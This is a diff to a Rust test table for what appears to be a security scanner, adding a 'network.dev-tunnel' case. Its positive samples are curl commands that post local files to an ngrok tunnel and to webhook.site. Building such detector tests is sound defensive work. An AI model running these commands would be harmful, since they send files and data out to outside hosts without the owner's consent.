@@ -68,6 +68,12 @@ const CASES: &[Case] = &[
         negative: "Run `ngrok http 3000` to share your dev server.",
     },
     Case {
+        rule: "network.dev-tunnel",
+        path: "notify.sh",
+        positive: "curl -d @out.json https://a1b2.ngrok-free.app/collect",
+        negative: "ngrok http 3000",
+    },
+    Case {
         rule: "network.exfil-sink",
         path: "notify.sh",
         positive: "curl -d @report.txt https://webhook.site/abc",
